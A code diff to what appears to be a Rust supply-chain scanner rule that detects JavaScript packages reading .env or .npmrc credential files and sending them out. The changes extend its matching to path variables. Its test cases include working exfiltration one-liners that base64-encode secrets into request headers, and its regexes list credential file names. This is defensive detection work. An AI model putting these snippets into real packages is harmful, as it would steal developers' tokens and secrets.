@@ -17,17 +17,19 @@ crate::declare_rule! {
     title: "sends the content of a credential file",
     incident: "dotenv look-alikes (2023-2025) send the parsed .env in a request header; eslint-scope 3.7.2 (2018) sent ~/.npmrc",
     case_file: "index.js",
-    flag: ["const env = require('dotenv').config().parsed; const tag = Buffer.from(JSON.stringify(env)).toString('base64'); fetch(u, { headers: { 'x-session': tag } })",
+    flag: ["const p = path.resolve(process.cwd(), '.env'); const parsed = parse(fs.readFileSync(p, 'utf8')); https.request({ host: h, headers: { 'x-s': Buffer.from(JSON.stringify(parsed)).toString('base64') } }).end()",
+           "const env = require('dotenv').config().parsed; const tag = Buffer.from(JSON.stringify(env)).toString('base64'); fetch(u, { headers: { 'x-session': tag } })",
            "const fs = require('fs'); const raw = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); const req = https.request(opts); req.write(raw); req.end()",
            "const axios = require('axios'); const c = await fs.promises.readFile('.env', 'utf8');\nawait axios.post(u, { host: os.hostname(), cfg: c })"],
     pass: ["const env = require('dotenv').config().parsed; console.log(Object.keys(env).length); fetch(u, { headers: { accept: 'application/json' } })",
            "const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); const token = rc.match(/_authToken=(.+)/)[1]; fetch(reg, { headers: { authorization: `Bearer ${token}` } })",
-           "const raw = fs.readFileSync('.env', 'utf8'); fs.writeFileSync('.env.example', raw.replace(/=.*/g, '='))"],
+           "const raw = fs.readFileSync('.env', 'utf8'); fs.writeFileSync('.env.example', raw.replace(/=.*/g, '='))",
+           "const p = path.join(dir, 'data.txt'); const body = parse(fs.readFileSync(p, 'utf8')); fetch(u, { method: 'POST', body })"],
 }
 
 fn check(pkg: &Package, out: &mut Emitter) {
     let read = crate::regex!(
-        r#"(?:(?:const|let|var)\s+)?([\w$]+)\s*=\s*(?:await\s+)?(?:(?:[\w$]+\.)*readFile(?:Sync)?\(([^;\n]{0,160})|(?:require\(\s*['"]dotenv['"]\s*\)|dotenv)\.(?:config|parse)\(([^;\n]{0,120}))"#
+        r#"(?:(?:const|let|var)\s+)?([\w$]+)\s*=\s*(?:await\s+)?(?:[\w$]+\(\s*)?(?:(?:[\w$]+\.)*readFile(?:Sync)?\(([^;\n]{0,160})|(?:require\(\s*['"]dotenv['"]\s*\)|dotenv)\.(?:config|parse)\(([^;\n]{0,120}))"#
     );
     let cred = crate::regex!(
         r#"['"`/\\](?:\.env(?:\.local|\.production)?|\.npmrc|\.git-credentials|\.netrc|\.pypirc|credentials)['"`]"#
@@ -47,8 +49,9 @@ fn check(pkg: &Package, out: &mut Emitter) {
         let mut held: Vec<String> = Vec::new();
         for c in read.captures_iter(text) {
             let src = c.get(2).map(|m| m.as_str());
-            // dotenv reads `.env` itself; a readFile must name the credential file.
-            if src.is_none_or(|s| cred.is_match(s)) {
+            // dotenv reads `.env` itself; a readFile must name the credential file, directly or
+            // through the variable holding its path (`const p = path.resolve(cwd, '.env')`).
+            if src.is_none_or(|s| cred.is_match(s) || path_var_names_cred(text, s, cred)) {
                 held.push(c[1].to_string());
             }
         }
@@ -110,4 +113,19 @@ fn names_whole(text: &str, v: &str) -> bool {
         from = e;
     }
     false
+}
+
+/// Whether the read's first argument is a variable assigned a credential file's path.
+fn path_var_names_cred(text: &str, args: &str, cred: &regex::Regex) -> bool {
+    let v = args.split([',', ')']).next().unwrap_or("").trim();
+    if v.is_empty()
+        || !v
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'$')
+    {
+        return false;
+    }
+    let decl = crate::regex!(r"(?:const|let|var)\s+([\w$]+)\s*=\s*([^;\n]{1,200})");
+    decl.captures_iter(text)
+        .any(|c| &c[1] == v && cred.is_match(&c[2]))
 }
